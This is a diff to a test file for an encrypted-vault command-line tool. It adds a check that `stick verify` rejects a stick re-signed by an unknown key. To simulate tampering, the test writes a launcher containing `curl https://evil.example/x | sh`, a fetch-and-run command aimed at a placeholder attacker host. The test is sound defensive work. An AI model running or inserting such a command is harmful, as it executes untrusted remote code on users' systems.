@@ -8,6 +8,7 @@
 //   - vaults are interchangeable: one sealed by the Bun executable opens in Node;
 //   - HOME, TMPDIR, XDG_* and the working folder stay empty; the stick holds only its files;
 //   - the interface's first screen, in a real terminal (tmux), unlocked, the message read;
+//   - `stick verify` anchored by the release fingerprint compiled into the bundle;
 //   - the differences found, pinned: .env and bunfig.toml where it runs are ignored;
 //     BUN_OPTIONS is obeyed (the launcher clears it: test/macos-launcher.test.ts).
 // One build per run (~5 s); the relay and both sticks are shared by the cases.
@@ -20,7 +21,9 @@ import { buildBunExe } from '../scripts/build-bun-exe.js';
 import { bundleCli, defaultEntry, hostTarget } from '../scripts/build-exe.js';
 import { KDF_FLOOR } from '../src/core/vault-format.js';
 import { CALIOP_ENTRY } from './helpers/caliop.js';
+import { generateReleaseKey, type ReleaseKey } from '../src/service/manifest-signature.js';
 import { emptyHost } from './helpers/empty-host.js';
+import { signStick } from './helpers/sign-stick.js';
 import { startRelayProcess, type RelayProcess } from './relay/helpers/relay-process.js';
 
 const DOMAIN = 'caliop.example';
@@ -34,12 +37,15 @@ let alice: string;
 let bob: string;
 let cwd: string;
 let hostDirs: Record<string, string>;
+/** The release key whose fingerprint is compiled into the bundle (docs/manifest.md §8). */
+let release: ReleaseKey;
 let env: NodeJS.ProcessEnv;
 
 beforeAll(async () => {
   if (!onLinuxX64) return;
   work = mkdtempSync(join(tmpdir(), 'caliop-exe-bun-'));
-  const bundle = await bundleCli(defaultEntry(), join(work, 'bundle'));
+  release = await generateReleaseKey({ name: 'Caliop Bun test release' });
+  const bundle = await bundleCli(defaultEntry(), join(work, 'bundle'), { releaseFingerprint: release.fingerprint });
   exe = buildBunExe({ target: 'linux-x64', bundlePath: bundle.bundlePath, outDir: join(work, 'out'), workDir: join(work, 'build') }).output;
   relay = await startRelayProcess({ domain: DOMAIN });
   alice = join(work, 'alice-stick');
@@ -93,7 +99,7 @@ describe.skipIf(!onLinuxX64)('the Bun runtime runs Caliop Key (linux-x64 build o
     expect(made.kdf.memoryKiB).toBeGreaterThanOrEqual(KDF_FLOOR.memoryKiB);
     expect(made.kdf.passes).toBeGreaterThanOrEqual(KDF_FLOOR.passes);
     ok([...init, '--name', 'bob', '--email', `bob@${DOMAIN}`], { stick: bob });
-    expect(readdirSync(join(alice, 'vault'))).toEqual(['caliop.vault']);
+    expect(readdirSync(join(alice, 'vault')).filter((name) => !/^store-[0-9a-f]{16}$/.test(name))).toEqual(['caliop.vault']); // docs/stick-layout.md §1
   }, 300_000); // each unlock runs Argon2id at 256 MiB × 3 (a release build ignores the test KDF)
 
   it('a vault sealed by the Bun executable opens in Node (the tsc build), and a wrong passphrase is refused the same way', () => {
@@ -176,8 +182,24 @@ describe.skipIf(!onLinuxX64)('the Bun runtime runs Caliop Key (linux-x64 build o
     for (const [name, dir] of Object.entries(hostDirs)) expect(readdirSync(dir), name).toEqual([]);
     for (const stick of [alice, bob]) {
       for (const name of readdirSync(stick)) expect(['config.json', 'vault'], `unexpected ${name} on the stick`).toContain(name);
-      expect(readdirSync(join(stick, 'vault'))).toEqual(['caliop.vault']);
+      expect(readdirSync(join(stick, 'vault')).filter((name) => !/^store-[0-9a-f]{16}$/.test(name))).toEqual(['caliop.vault']);
     }
+  });
+
+  it('stick verify trusts the release fingerprint compiled into the bundle, and refuses a stick re-signed by another key (50)', async () => {
+    const stick = join(work, 'anchored-stick');
+    mkdirSync(join(stick, 'vault'), { recursive: true });
+    writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\n');
+    await signStick(stick, release);
+    const verify = () => spawnSync(exe, ['--stick', stick, '--json', 'stick', 'verify'], { cwd, env, encoding: 'utf8' });
+    const good = verify();
+    expect(good.status, good.stderr).toBe(0);
+    expect(JSON.parse(good.stdout)).toMatchObject({ ok: true, anchor: 'compiled-in', anchorFingerprint: release.fingerprint, anchorMatches: true });
+    writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\ncurl https://evil.example/x | sh\n');
+    await signStick(stick, await generateReleaseKey({ name: 'Not the Caliop release key' }));
+    const bad = verify();
+    expect(bad.status).toBe(50);
+    expect(JSON.parse(bad.stdout)).toMatchObject({ ok: false, signatureValid: true, anchor: 'compiled-in', anchorMatches: false });
   });
 
   it('differences, pinned: .env and bunfig.toml where it runs are ignored; BUN_OPTIONS is obeyed (the macOS launcher clears it)', () => {
